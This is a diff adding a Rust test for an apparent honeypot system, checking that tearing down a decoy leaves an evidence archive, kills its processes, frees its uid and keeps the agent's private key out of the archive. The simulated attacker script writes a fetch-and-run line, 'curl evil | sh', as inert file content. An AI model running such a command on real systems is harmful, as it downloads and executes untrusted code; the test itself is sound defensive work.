@@ -763,3 +763,141 @@ fn a_decky_writing_past_its_disk_budget_is_stopped() {
     let size = std::fs::metadata(&big).map(|md| md.len()).unwrap_or(0);
     assert!(size <= 4 << 20, "a file grew past RLIMIT_FSIZE: {size}");
 }
+
+/// A teardown leaves nothing of the decky behind yet loses nothing: its
+/// uid's processes end (a daemonised one included), its working directory
+/// becomes an evidence archive the operator fetches with `swarm evidence`,
+/// and its uid is freed. The decky plays the attacker with what it leaves:
+/// a link to the agent's key (stored as a link, never followed: the key's
+/// bytes must not reach the archive), a FIFO (skipped, never blocking the
+/// teardown), and a directory it closed to itself.
+#[test]
+fn a_torn_down_decky_leaves_evidence_and_nothing_of_its_uid() {
+    outside_tmp();
+    if !is_root() {
+        eprintln!("not root: per-decky ids cannot be exercised");
+        return;
+    }
+    let m = MasterHome::new();
+    m.enroll("w1");
+    let state = m.dir.path().join("w1-state");
+    let _agent = decnet_e2e::Agent::start(&m, "w1", &state, &[]);
+    let key = m.agent_bundle_dir("w1").join("worker.key");
+    assert!(key.is_file());
+    let script = format!(
+        "mkdir -p loot sealed && echo 'curl evil | sh' > loot/dropper.sh && \
+         ln -s {} agent-key && mkfifo pipe && echo hidden > sealed/note && chmod 000 sealed && \
+         (setsid sleep 600 > /dev/null 2>&1 &) ; echo READY; exec sleep 600",
+        key.display()
+    );
+    let cfg = write_config(
+        m.dir.path(),
+        "trap.json",
+        serde_json::json!({"version": 1, "deckies": [
+            {"name": "trap", "command": ["/bin/sh", "-c", script]}]}),
+    );
+    m.ok(&[
+        "swarm",
+        "deploy",
+        "--config",
+        cfg.to_str().unwrap(),
+        "--host",
+        "w1",
+    ]);
+    assert!(
+        wait_for(Duration::from_secs(20), || decky_log(&state, "trap")
+            .contains("READY")
+            .then_some(()))
+        .is_some(),
+        "{}",
+        decky_log(&state, "trap")
+    );
+    let uid = status_of(&m, "w1", "trap")["uid"].as_u64().unwrap() as u32;
+    let ids = || std::fs::read_to_string(state.join("decky-ids.json")).unwrap_or_default();
+    assert!(ids().contains("\"trap\""));
+
+    m.ok(&["swarm", "teardown", "w1", "--decky", "trap"]);
+    // Nothing of its uid runs, its directory is gone, its uid is free.
+    assert!(
+        decnet_proc::processes_of_user(uid).is_empty(),
+        "processes of uid {uid} survived the teardown"
+    );
+    assert!(!state.join("deckies/trap").exists());
+    assert!(
+        !ids().contains("\"trap\""),
+        "the uid stayed booked: {}",
+        ids()
+    );
+
+    // The evidence, listed and fetched.
+    let list = m.json(&["swarm", "evidence", "w1", "--json"]);
+    let archives = list.as_array().unwrap();
+    assert_eq!(archives.len(), 1, "{list}");
+    assert_eq!(archives[0]["decky"], "trap");
+    let out = m.dir.path().join("trap.tar.gz");
+    let fetched = m.run(&[
+        "swarm",
+        "evidence",
+        "w1",
+        "trap",
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert!(fetched.status.success(), "{fetched:?}");
+    assert_eq!(
+        std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    let raw = std::fs::read(&out).unwrap();
+    let mut tar = Vec::new();
+    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&raw[..]), &mut tar).unwrap();
+    let key_bytes = std::fs::read(&key).unwrap();
+    assert!(
+        !tar.windows(64)
+            .any(|w| key_bytes.windows(64).any(|k| k == w))
+            && !String::from_utf8_lossy(&tar).contains("PRIVATE KEY"),
+        "the agent's key reached the archive"
+    );
+    let mut entries = std::collections::BTreeMap::new();
+    for e in tar::Archive::new(&tar[..]).entries().unwrap() {
+        let mut e = e.unwrap();
+        let path = e.path().unwrap().display().to_string();
+        let mut body = String::new();
+        if e.header().entry_type() == tar::EntryType::Symlink {
+            body = format!("-> {}", e.link_name().unwrap().unwrap().display());
+        } else {
+            let _ = std::io::Read::read_to_string(&mut e, &mut body);
+        }
+        entries.insert(path, body);
+    }
+    assert_eq!(entries["trap/loot/dropper.sh"], "curl evil | sh\n");
+    assert_eq!(entries["trap/sealed/note"], "hidden\n");
+    assert_eq!(entries["trap/agent-key"], format!("-> {}", key.display()));
+    assert!(!entries.contains_key("trap/pipe"), "{entries:?}");
+    let manifest: serde_json::Value =
+        serde_json::from_str(&entries["decnet-evidence.json"]).unwrap();
+    assert_eq!(manifest["decky"], "trap");
+    assert!(
+        manifest["skipped"].to_string().contains("pipe"),
+        "{manifest}"
+    );
+    // Never overwritten; audited.
+    let again = m.run(&[
+        "swarm",
+        "evidence",
+        "w1",
+        "trap",
+        "-o",
+        out.to_str().unwrap(),
+    ]);
+    assert!(!again.status.success());
+    let audit = m.json(&["audit", "--json"]);
+    assert!(
+        audit
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["action"] == "swarm.evidence" && e["outcome"] == "ok"),
+        "{audit}"
+    );
+}
